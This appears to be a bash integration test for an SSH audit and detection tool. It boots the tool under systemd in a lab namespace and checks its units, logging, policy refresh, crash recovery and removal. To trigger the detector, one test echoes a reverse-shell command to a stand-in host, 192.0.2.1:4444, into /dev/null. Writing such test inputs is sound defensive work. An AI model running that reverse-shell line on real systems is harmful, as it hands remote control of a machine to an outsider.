# The same host under systemd: accounts, folders and every unit as README.md has
# them, over a boot and a crash, journald between sshd and rsyslog.
# shellcheck shell=bash

# What the lab has started itself is for the units here.
folders() { "$@" find /run/countersign -not -type f -not -type s -printf '%p %M %u %g %l\n' | sort; }
folders env >"$LAB/run.lab"
pkill -f libexec/countersign/keeper
kill "$SSHD"
pkill -F /run/rsyslogd.pid

# boot: systemd as pid 1 of a pid namespace below the lab's, on the lab's files.
# What it makes of /tmp, /run, cgroups and the kernel's settings is its own.
CGROUPS=$LAB/cgroup
OWN_CGROUP=$CGROUPS/countersign-${LAB##*.}
mkdir "$CGROUPS"
mount -t cgroup2 cgroup2 "$CGROUPS" || lab_die "no cgroup2"
boot() {
  cat >"$LAB/boot" <<'END'
set -e
mount -t tmpfs tmpfs /tmp
mount -t tmpfs -o mode=755 tmpfs /run
mount -o bind,ro /proc/sys /proc/sys
mount -t sysfs -o ro sysfs /sys
mount -t cgroup2 cgroup2 /sys/fs/cgroup
exec env -i container=lab PATH=/usr/sbin:/usr/bin:/sbin:/bin /lib/systemd/systemd --system --unit=lab.target
END
  mkdir "$OWN_CGROUP"
  (
    echo "$BASHPID" >"$OWN_CGROUP/cgroup.procs"
    exec unshare -mpfC --mount-proc --kill-child bash "$LAB/boot"
  ) >"$LAB/systemd.log" 2>&1 </dev/null &
  BOOTED=$!
  wait_until "systemd runs" pgrep -P "$BOOTED" -x systemd
  SYSTEMD=$(pgrep -P "$BOOTED")
  wait_until "systemd is up" is_active lab.target
  wait_until "sshd listens" bash -c 'exec 3<>/dev/tcp/127.0.0.1/22' 2>/dev/null
}
# As when the power fails.
crash() {
  kill -9 "$SYSTEMD"
  wait "$BOOTED" 2>/dev/null
  wait_until "its cgroups are gone" no_groups 2>/dev/null
}
no_groups() {
  find "$OWN_CGROUP" -depth -type d -exec rmdir {} +
  [ ! -e "$OWN_CGROUP" ]
}
trap '[ ! -e "$OWN_CGROUP" ] || crash' EXIT
on_host() { nsenter -m -p -C -t "$SYSTEMD" -- "$@"; }
host_runs() { runs nsenter -m -p -C -t "$SYSTEMD" -- "$@"; }
is_active() { on_host systemctl is-active "$1" 2>/dev/null; }
prop() { on_host systemctl show -p "$2" --value "$1"; }
# active UNIT...: they run, and were not started again and again
active() {
  local unit
  for unit; do
    wait_until "$unit is active" is_active "$unit"
    [[ $(prop "$unit" NRestarts) =~ ^0?$ ]] || fail "$unit was restarted: $(on_host journalctl --no-pager -n 5 -u "$unit")"
  done
}
none_failed() {
  local failed
  failed=$(on_host systemctl list-units --failed --all --plain --no-legend 'countersign*')
  [ -z "$failed" ] || fail "a unit has failed: $failed"
}
no_keepers() { [ -z "$(on_host systemctl list-units --plain --no-legend 'countersign-keeper@*')" ]; }
# readme WORD: README.md's commands for systemd that have the word in them
readme() { grep "^    .*$1" "$root/README.md" | sed 's/^    //; s/  #.*//'; }

story "accounts and folders: systemd's own make the same of our files as prepare-host"
mkdir -p "$LAB/empty/etc"
for file in passwd group shadow gshadow; do
  sed '/^_countersign/d; s/,*_countersign[a-z-]*//g' "/etc/$file" >"$LAB/empty/etc/$file"
done
systemd-sysusers --root="$LAB/empty" - <"$root/packaging/countersign.sysusers" >"$LAB/out" 2>&1 || fail "sysusers"
accounts() {
  grep '^_countersign' "$1/passwd" | cut -d: -f 1,6,7 | sort
  grep countersign "$1/group" | cut -d: -f 1,4 | sort
}
[ "$(accounts /etc | wc -l)" -gt 8 ] || fail "no accounts"
[ "$(accounts /etc)" = "$(accounts "$LAB/empty/etc")" ] ||
  fail "they differ: $(diff <(accounts /etc) <(accounts "$LAB/empty/etc"))"
# This machine's own services are not what is tried.
rm -rf /etc/systemd/system/{multi-user,timers,sysinit}.target.wants/*
ln -sf /dev/null /etc/systemd/system/systemd-remount-fs.service
mkdir -p /etc/systemd/system
cat >/etc/systemd/system/lab.target <<'END'
[Unit]
Requires=basic.target
Wants=ssh.service rsyslog.service dbus.service systemd-logind.service multi-user.target
After=ssh.service rsyslog.service dbus.service systemd-logind.service multi-user.target
END
boot
folders on_host >"$LAB/run.systemd"
cmp -s "$LAB/run.lab" "$LAB/run.systemd" || fail "they differ: $(diff "$LAB/run.lab" "$LAB/run.systemd")"

story "the units say nothing that systemd does not know"
on_host bash -c 'systemd-analyze verify --man=no /lib/systemd/system/countersign-*' >"$LAB/out" 2>&1
grep countersign "$LAB/out" >"$LAB/err" && fail "systemd-analyze verify has something to say"

story "README.md's commands: the keeper's socket; a login, and what is on record of it"
readme 'systemctl enable.*\(keeper\|undo\)' >"$LAB/lines"
[ "$(wc -l <"$LAB/lines")" = 2 ] || fail "README.md does not say how"
on_host bash -eu <"$LAB/lines" 2>"$LAB/err" || fail "README's lines fail"
issue alice web
as alice deploy -- 'cat /proc/self/cgroup'
exits 0
grep -q '/user.slice/.*session-.*scope' "$LAB/out" || fail "pam_systemd has no session of it"
for name in connection.start session.start exec session.end connection.end; do event ".event==\"$name\" and .user==\"alice@example.com\""; done
settled
wait_until "the keeper's unit is gone" no_keepers
none_failed

story "sshd's lines come through journald, and are known as sshd's"
fresh
python3 -m http.server -b 127.0.0.1 -d "$root/docs" 8000 >/dev/null 2>&1 &
wait_until "the web server listens" bash -c 'exec 3<>/dev/tcp/127.0.0.1/8000' 2>/dev/null
ssh_stays alice deploy -tt -L 9001:127.0.0.1:8000 -- 'logger -p authpriv.info -t "sshd[$PPID]" "refused local port forward: originator a port 1, target forged port 22"; sleep 60'
wait_until "it works" curl -s -m 2 -o /dev/null http://127.0.0.1:9001/FORMATS.md
event '.event=="port" and .success and .addr=="127.0.0.1:8000" and .user=="alice@example.com" and .connection_id'

story "trace: README.md's line; what a session runs, and a trace that is restarted"
readme 'systemctl enable.*trace' | on_host bash -eu 2>"$LAB/err" || fail "README's line fails"
active countersign-trace
event '.event=="trace.start" and .trace_level=="ebpf"'
as alice deploy -- '/usr/bin/id -u'
event '.event=="session.command" and .path=="/usr/bin/id" and .sid and .user=="alice@example.com"'
on_host systemctl restart countersign-trace || fail "it does not restart"
as alice deploy -- '/usr/bin/uname'
event '.event=="session.command" and .path=="/usr/bin/uname" and .sid'
active countersign-trace

story "what the user's own systemd is asked to run is told as well"
as alice deploy -- 'systemd-run --user --wait -q /usr/bin/whoami && sleep 1'
exits 0
silent
event '.event=="session.command" and .path=="/usr/bin/whoami" and .login=="deploy" and .detached'

story "sshd, rsyslog and the socket are restarted under a session: it goes on"
on_host systemctl restart ssh rsyslog countersign-keeper.socket || fail "they do not restart"
curl -s -m 5 -o /dev/null http://127.0.0.1:9001/FORMATS.md || fail "the session is gone"
as alice deploy -- 'echo more'
says more
ssh_goes
no_event '.event=="port" and .addr!="127.0.0.1:8000"'

story "logrotate by its own service: what comes next is in the next file, and nobody dies of it"
fresh
as alice deploy -N -W 127.0.0.1:1
event '.event=="port" and .addr=="127.0.0.1:1"'
settled
reader=$(pgrep -f libexec/countersign/sshd-events)
printf 'logrotate state -- version 2\n"%s" 2020-1-1-0:0:0\n' $EVENTS >/var/lib/logrotate/status
on_host systemctl start logrotate.service || fail "$(on_host journalctl --no-pager -n 5 -u logrotate)"
grep -q '127.0.0.1:1' $EVENTS-* || fail "it is not rotated: $(ls /var/log/countersign)"
as alice deploy -N -W 127.0.0.1:2
event '.event=="port" and .addr=="127.0.0.1:2"'
settled
no_event '.addr=="127.0.0.1:1"'
[ "$(pgrep -f libexec/countersign/sshd-events)" = "$reader" ] || fail "what reads sshd's lines is another one"
rm $EVENTS-*

story "the keeper is killed: it is buried by its unit, and the connection ended"
fresh
ssh_stays alice deploy -tt -- 'echo; sleep 60'
event '.event=="session.start"'
on_host bash -c 'pkill -9 -f "^/usr/libexec/countersign/keeper$"'
wait "$CLIENT"
event '.event=="session.end" and .error=="the keeper was killed"'
event '.event=="connection.end" and .reason=="the keeper was killed"'
settled
wait_until "the keeper's unit is gone" no_keepers
as alice deploy -- true
exits 0

story "logind ends the session: it is ended for us as well"
fresh
ssh_stays alice deploy -tt -- 'echo; sleep 60'
event '.event=="session.start"'
on_host bash -c 'loginctl terminate-user deploy'
wait "$CLIENT"
event '.event=="session.end"'
settled
wait_until "the keeper's unit is gone" no_keepers

story "policy by the timer's service, from a folder and by HTTPS"
fresh
source=/var/lib/source
mkdir -p "$source"
# release VERSION
release() {
  printf '{ "version": %s, "roles": { "web": { "allow": { "logins": ["deploy"], "node_labels": { "tier": ["web*"] } } } } }\n' "$1" >$source/policy.json
  countersign policy sign -q --ca "$LAB/ca" $source/policy.json || fail "the policy is not signed"
  countersign krl -q --ca "$LAB/ca" -o $source/krl || fail "no KRL"
}
# refreshes VERSION: by the unit
refreshes() {
  host_runs systemctl start countersign-refresh.service
  [ "$STATUS" = 0 ] || fail "$(on_host journalctl --no-pager -n 9 -u countersign-refresh)"
  event ".event==\"policy.update\" and .version==$1"
  [ "$(jq .version /var/lib/countersign/policy.json)" = "$1" ] || fail "not in force"
}
release 10
install -m 644 "$LAB/ca/policy_key.pub" /etc/countersign/policy_key.pub
echo "PolicySource $source" >>/etc/countersign/node.conf
readme 'systemctl enable.*refresh.timer' | on_host bash -eu >"$LAB/out" 2>"$LAB/err" || fail "README's line fails"
active countersign-refresh.timer
refreshes 10
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=localhost \
  -addext subjectAltName=DNS:localhost -keyout "$LAB/tls.key" -out /etc/countersign/source.crt 2>/dev/null || lab_die "no TLS key"
chmod 644 /etc/countersign/source.crt
python3 "$here/source.py" 8443 $source /etc/countersign/source.crt "$LAB/tls.key" "$LAB/requests" &
wait_until "the source listens" bash -c 'exec 3<>/dev/tcp/127.0.0.1/8443' 2>/dev/null
grep -q localhost /etc/hosts || echo '127.0.0.1 localhost' >>/etc/hosts
sed -i '/^PolicySource/d' /etc/countersign/node.conf
printf '%s\n' 'PolicySource https://localhost:8443/fleet/' 'PolicySourceCA /etc/countersign/source.crt' >>/etc/countersign/node.conf
release 11
refreshes 11
as alice deploy -- true
exits 0
as alice alice -- true
refused

story "old recordings are deleted by the timer's service"
day=/var/log/countersign/recordings/2020/01/01
install -d -o root -g adm -m 750 /var/log/countersign/recordings/2020 /var/log/countersign/recordings/2020/01 $day
new=$(find /var/log/countersign/recordings -name '*.cast*' | head -n 1)
[ -n "$new" ] || fail "there is no recording"
cp -p "$new" "$day/00000000-0000-4000-8000-000000000000.${new#*.}"
touch -d '2 years ago' "$day"/*
on_host systemctl enable --now countersign-prune.timer 2>/dev/null
active countersign-prune.timer
on_host systemctl start countersign-prune.service || fail "$(on_host journalctl --no-pager -n 9 -u countersign-prune)"
[ -z "$(ls $day 2>/dev/null)" ] || fail "the old one is still there"
[ -s "$new" ] || fail "a new one is not"

story "detector, sender and responder: README.md's lines; an alert is told, and done something about"
fresh
python3 - "$LAB/hooks" 8001 <<'END' &
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        open(sys.argv[1], "ab").write(self.rfile.read(int(self.headers["content-length"])) + b"\n")
        self.send_response(200); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *words): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[2])), H).serve_forever()
END
echo http://127.0.0.1:8001/services/T0/B0/x >/etc/countersign/detect/slack.url
readme 'detect/\(routes\|respond\).json' | bash -eu || fail "README's lines fail"
chown -R root:_countersign-detect /etc/countersign/detect
chmod 640 /etc/countersign/detect/*
readme 'systemctl enable.*detect' | on_host bash -eu 2>"$LAB/err" || fail "README's line fails"
active countersign-detect countersign-alert-sender countersign-responder
# A connection that is there yet when its command is over, and told.
ssh_stays alice deploy -M -N
wait_until "the connection is up" ssh -F "$LAB/ssh_config" -O check web1 -l deploy 2>/dev/null
as alice deploy -- 'echo "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1" >/dev/null'
event '.event=="respond" and .outcome=="done"'
wait "$CLIENT"
event '.event=="client.disconnect"'
wait_until "the alert is told" test -s "$LAB/hooks"
active countersign-detect countersign-alert-sender countersign-responder
on_host systemctl stop countersign-detect countersign-alert-sender countersign-responder || fail "they do not stop"
none_failed

story "the machine goes down, and comes up with all that is enabled"
settled
crash
boot
active countersign-keeper.socket countersign-refresh.timer countersign-prune.timer countersign-detect countersign-alert-sender countersign-responder
as alice deploy -- 'echo again'
says again
settled

story "a setup that nobody confirmed before the machine went down is taken back at boot"
on_host countersign-node remove >/dev/null || fail "not removed"
mkdir -p /root/.ssh
cp "$LAB/keys/key.pub" /root/.ssh/authorized_keys
printf 'PermitRootLogin yes\n' >/etc/ssh/sshd_config.d/10-admin.conf
on_host systemctl reload ssh
cp "$LAB/keys/key" "$LAB/keys/plain"
host_runs countersign-node setup
exits 0
[ -e /etc/ssh/sshd_config.d/00-countersign.conf ] || fail "not set up"
crash
boot
[ "$(prop countersign-setup-undo.service Result)" = success ] || fail "it was not run"
[ -e /etc/ssh/sshd_config.d/00-countersign.conf ] && fail "it is still in force"
as plain root -- 'echo in'
says in

story "set up over ssh, through a login's own scope: confirmed, and undone by the clock"
as plain root -- countersign-node setup --timeout 5s
exits 0
wait_until "it is taken back" test ! -e /etc/ssh/sshd_config.d/00-countersign.conf
wait_until "sshd has heard" bash -c "ssh -F $LAB/ssh_config -i $LAB/keys/plain root@web1 true 2>/dev/null"

story "taken off as README.md says, units and all"
sed -n '/^<!-- remove -->$/,/^<!-- end -->$/p' "$root/README.md" | grep '^    ' | sed 's/^    //' >"$LAB/remove"
on_host bash -eu <"$LAB/remove" >"$LAB/out" 2>"$LAB/err" || fail "README's lines fail"
[ -z "$(on_host systemctl list-units --all --plain --no-legend 'countersign*')" ] || fail "a unit is left: $(on_host systemctl list-units --all --plain --no-legend 'countersign*')"
left=$(on_host find /etc /usr /var /run \( -name '*countersign*' -o -path '/usr/libexec/countersign*' \) -not -path '/var/log/*' 2>/dev/null)
[ -z "$left" ] || fail "left behind: $left"
as plain root -- 'echo plain'
says plain
none_failed
: >$EVENTS
